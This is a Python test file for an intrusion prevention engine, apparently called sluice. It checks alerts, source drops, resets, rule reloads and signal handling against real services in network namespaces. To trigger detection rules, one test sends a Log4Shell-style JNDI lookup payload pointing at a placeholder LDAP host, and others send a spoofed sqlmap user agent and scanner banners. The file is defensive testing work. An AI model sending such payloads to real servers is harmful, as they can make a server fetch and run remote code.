#!/usr/bin/env python3
"""Live tests: real clients and servers, the engine on a veth pair, drops in the kernel."""
import os
import signal
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
import case  # noqa: E402
import netns  # noqa: E402
from case import RULES, LiveCase  # noqa: E402


class Live(LiveCase):
    def drop_source(self, source, harmless):
        net = self.net
        self.assertEqual(net.curl(harmless).stdout, "200")
        net.curl(source, "-A", "sqlmap/1.0")
        alert = net.wait_alert(9100010)
        self.assertIsNotNone(alert)
        self.assertEqual(alert["alert"]["action"], "blocked")
        self.assertEqual(alert["in_iface"], "srv0")
        self.attacker_dies(source)
        self.assertEqual(net.curl(harmless).stdout, "200")

    def test_drop_by_source_ipv4(self):
        self.net.nginx()
        self.net.sluice(RULES)
        self.drop_source(netns.ATTACKER, netns.CLIENT)

    def test_drop_by_source_ipv6(self):
        self.net.nginx()
        self.net.sluice(RULES)
        self.drop_source(netns.ATTACKER6, netns.CLIENT6)

    def test_two_workers(self):
        self.net.nginx()
        self.net.sluice(RULES, "--workers", "2")
        for _ in range(20):
            self.assertEqual(self.net.curl(netns.CLIENT).stdout, "200")
        end = time.time() + 5
        while time.time() < end and len(self.net.events("http")) < 20:
            time.sleep(0.2)
        self.assertEqual(len(self.net.events("http")), 20)
        self.drop_source(netns.ATTACKER, netns.CLIENT)

    def test_every_protocol_is_seen_and_its_rule_fires(self):
        net = self.net
        for start in (net.nginx, net.sshd, net.dnsmasq, net.xrdp):
            start()
        net.sluice(RULES)
        a = netns.ATTACKER
        net.raw(a, 22, b"SSH-2.0-libssh-scanner\r\n")
        net.dig(a, "blocked.sluice.test")
        net.raw(a, 3389, netns.rdp_request(b"nmap"))
        net.curl(a, "/?q=${jndi:ldap://203.0.113.9/x}")
        for sid in (9100200, 9100100, 9100301, 9100000):
            self.assertIsNotNone(net.wait_alert(sid), sid)
        self.assertGreaterEqual(sum(e["scope"] == "flow" for e in net.drops()), 4)
        self.assertEqual(net.dig(netns.CLIENT, "good.sluice.test"), "192.0.2.7")
        self.assertEqual(net.curl(netns.CLIENT).stdout, "200")
        net.raw(netns.CLIENT, 3389, netns.rdp_request(b"alice"))  # of dropped flows there are no records
        for kind in ("dns", "http", "rdp"):
            self.assertIsNotNone(net.wait_event(kind, lambda e: True), kind)

    def test_ssh_on_another_port_is_still_ssh(self):
        net = self.net
        net.sshd(8080)
        net.sluice(RULES)
        net.at(net.outside, "ssh", "-p", "8080", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o",
               f"UserKnownHostsFile={net.dir}/known", f"nobody@{netns.SERVER}", "true")
        event = net.wait_event("ssh", lambda e: e["dest_port"] == 8080)
        self.assertIsNotNone(event)
        self.assertTrue(event["ssh"]["client"]["software_version"].startswith("OpenSSH"))

    def test_reject_resets_both_ends(self):
        net = self.net
        net.nginx()
        rule = net.write("reject.rules", 'reject tcp any any -> any 80 (msg:"r"; content:"evil"; sid:1;)\n')
        net.sluice([rule])
        self.assertEqual(net.raw(netns.ATTACKER, 80, b"GET /evil HTTP/1.1\r\nHost: x\r\n"), "ConnectionResetError")
        alert = net.wait_alert(1)
        self.assertIsNotNone(alert)
        self.assertEqual(alert["alert"]["action"], "blocked")
        self.eventually(lambda: net.events("enforcement"), "a record of the drop")
        self.assertEqual({e["enforcement"]["action"] for e in net.events("enforcement")}, {"reject"})

    def test_drops_outlive_kill_and_are_adopted(self):
        net = self.net
        net.nginx()
        engine = net.sluice(RULES, "--set", "tap.keep-on-exit=true")
        net.curl(netns.ATTACKER, "-A", "sqlmap/1.0")
        self.assertIsNotNone(net.wait_alert(9100010))
        os.killpg(engine.pid, signal.SIGKILL)
        engine.wait()
        self.attacker_dies(netns.ATTACKER)
        self.assertEqual(net.curl(netns.CLIENT).stdout, "200")  # fail-open
        net.sluice(RULES, "--set", "tap.keep-on-exit=true")
        self.assertTrue(all(i["adopted"] for i in net.status()["interfaces"]))
        self.attacker_dies(netns.ATTACKER)
        self.assertEqual(net.curl(netns.CLIENT).stdout, "200")
        net.end(net.processes[-1])
        net.command("drops", "flush")
        self.assertEqual(net.curl(netns.ATTACKER).stdout, "200")

    def test_an_operator_lists_adds_and_lifts_drops(self):
        net = self.net
        net.nginx()
        net.sluice([])
        net.command("drops", "add", "source", netns.ATTACKER, "--ttl", "1h")
        self.assertEqual(net.drops()[0]["cause"], "operator")
        self.attacker_dies(netns.ATTACKER)
        net.command("drops", "del", "source", netns.ATTACKER)
        self.assertEqual(net.curl(netns.ATTACKER).stdout, "200")
        again = net.command("drops", "del", "source", netns.ATTACKER, check=False)
        self.assertEqual(again.returncode, 1)
        self.assertIn("there is no such entry", again.stderr)

    def test_what_an_operator_does_is_on_record(self):
        net = self.net
        net.sluice([])

        def told():
            of = [e["enforcement"] for e in net.events("enforcement") if e["enforcement"]["value"] == "192.0.2.0/24"]
            return [(e["op"], e["scope"], e["origin"]) for e in of]
        net.command("drops", "add", "source", "192.0.2.0/24", "--ttl", "1h")
        self.eventually(lambda: told() == [("add", "src_net", "operator")], "a record of the entry")
        net.command("drops", "del", "source", "192.0.2.0/24")
        self.eventually(lambda: told()[1:] == [("remove", "src_net", "operator")], "a record of its end")

    def test_reload_takes_new_rules_while_flows_go_on(self):
        net = self.net
        net.nginx()
        rules = net.write("my.rules", 'alert http any any -> any any (msg:"a"; http.uri; content:"/one"; sid:1;)\n')
        net.sluice([rules])
        net.write("my.rules", 'alert http any any -> any any (msg:"b"; http.uri; content:"/two"; sid:2;)\n')
        self.assertIn("1 rules loaded, 0 failed", net.command("reload").stdout)
        time.sleep(0.3)
        net.curl(netns.CLIENT, "/two")
        self.assertIsNotNone(net.wait_alert(2))
        self.assertEqual([e["sensor"]["state"] for e in net.events("sensor")], ["ready", "reloading", "ready"])

    def test_reloads_under_traffic_lose_nothing(self):
        net = self.net
        net.nginx()
        old = 'alert http any any -> any any (msg:"a"; http.uri; content:"/one?"; flowbits:set,seen; sid:1;)\n'
        new = 'alert http any any -> any any (msg:"b"; http.uri; content:"/one?"; flowbits:isset,seen; sid:2;)\n'
        rules = net.write("my.rules", old)
        engine = net.sluice([rules])
        # One connection that lives through all of them, and new ones beside it.
        url = f"http://{netns.SERVER}/one?[1-240]"
        clients = [net.spawn(net.outside, "curl", "-s", "-o", "/dev/null", "--rate", "40/s", *more, url)
                   for more in ([], ["-H", "Connection: close"])]
        for i in range(6):
            net.write("my.rules", (old + new) if i % 2 == 0 else "alert bad\n" + old)
            if i < 4:
                self.assertIn("rules loaded", net.command("reload").stdout)
            else:
                engine.send_signal(signal.SIGUSR2)
            time.sleep(0.5)
        for client in clients:
            self.assertEqual(client.wait(30), 0)
        self.eventually(lambda: len(net.events("http")) == 480, "a record of each request")
        alerts = [e["alert"]["signature_id"] for e in net.events("alert")]
        self.assertEqual(alerts.count(1), 480, "the rule that was there all the time fires on each request")
        self.assertGreater(alerts.count(2), 0, "and the new one on flows that the old one marked")
        counters = net.status()["counters"]
        self.assertEqual(counters.get("capture.kernel_drops", 0), 0)
        self.assertGreaterEqual(net.status()["rules"]["generation"], 6)

    def test_requests_at_once_are_all_answered(self):
        net = self.net
        net.nginx()
        rules = net.write("my.rules", 'alert http any any -> any any (http.uri; content:"/one"; sid:1;)\n')
        net.sluice([rules])
        net.write("my.rules", "".join(f'alert http any any -> any any (http.uri; content:"/{i:05}x"; sid:{i + 10};)\n' for i in range(20_000)) +
                  'alert http any any -> any any (http.uri; content:"/two"; sid:2;)\n')
        # Those that come while a build runs share the one behind it (reload_test counts).
        for client in [net.spawn(net.inside, netns.SLUICE, "reload", *net.settings()) for _ in range(4)]:
            self.assertEqual(client.wait(60), 0)
        status = net.status()
        self.assertIn(status["counters"]["reload.done"], range(1, 5))
        self.assertFalse(status["rules"]["reloading"])
        net.curl(netns.CLIENT, "/two")
        self.assertIsNotNone(net.wait_alert(2))

    def a_failed_reload(self, why, break_it, *settings):
        net = self.net
        net.nginx()
        rules = net.write("my.rules", 'alert http any any -> any any (msg:"a"; http.uri; content:"/one"; sid:1;)\n')
        net.sluice([rules], *settings)
        before = net.status()["rules"]
        break_it(rules)
        failed = net.command("reload", check=False)
        self.assertEqual(failed.returncode, 1, failed.stdout)
        self.assertIn(why, failed.stdout + failed.stderr)
        after = net.status()["rules"]
        self.assertIn(why, after["reload_error"])
        self.assertEqual((after["hash"], after["generation"]), (before["hash"], before["generation"]))
        net.curl(netns.CLIENT, "/one")
        self.assertIsNotNone(net.wait_alert(1))

    def test_a_reload_that_fails_keeps_the_old_rules(self):
        self.a_failed_reload("my.rules", os.remove)

    def test_a_reload_past_the_memory_limit_keeps_the_old_rules(self):
        self.a_failed_reload("rules.memory-limit", lambda _: None, "--set", "rules.memory-limit=1mb")

    def test_hangup_reopens_the_logs(self):
        net = self.net
        net.nginx()
        engine = net.sluice([])
        log = os.path.join(net.dir, "log", "eve.json")
        os.rename(log, log + ".1")
        os.killpg(engine.pid, signal.SIGHUP)
        time.sleep(0.5)
        net.curl(netns.CLIENT)
        self.assertIsNotNone(net.wait_event("http", lambda e: True))

    def test_missing_interface_is_one_clear_line(self):
        net = self.net
        r = net.at(net.inside, netns.SLUICE, "run", "-i", "nothere0", "-l", net.dir, *net.settings())
        self.assertEqual(r.returncode, 1)
        self.assertIn("nothere0", r.stderr)
        self.assertEqual(len(r.stderr.strip().split("\n")), 1, r.stderr)

    def test_term_ends_cleanly_and_detaches(self):
        net = self.net
        net.nginx()
        engine = net.sluice(RULES)
        net.curl(netns.ATTACKER, "-A", "sqlmap/1.0")
        self.assertIsNotNone(net.wait_alert(9100010))
        engine.send_signal(signal.SIGTERM)
        self.assertEqual(engine.wait(10), 0)
        self.assertEqual(net.curl(netns.ATTACKER).stdout, "200")
        stats = net.events("stats")[-1]["stats"]
        for name in ("kernel_packets", "kernel_drops", "kernel_ifdrops", "errors"):
            self.assertIn(name, stats["capture"])
        for path in (("flow", "memuse"), ("tcp", "memuse"), ("ips", "replaced"), ("memcap", "pressure")):
            self.assertIn(path[1], stats[path[0]])
        self.assertEqual({e["in_iface"] for e in net.events("flow")}, {"srv0"})
        self.assertEqual([(e["sensor"]["state"], e["sensor"]["what"]) for e in net.events("sensor")], [("ready", "start"), ("stopping", "stop")])


if __name__ == "__main__":
    case.main()
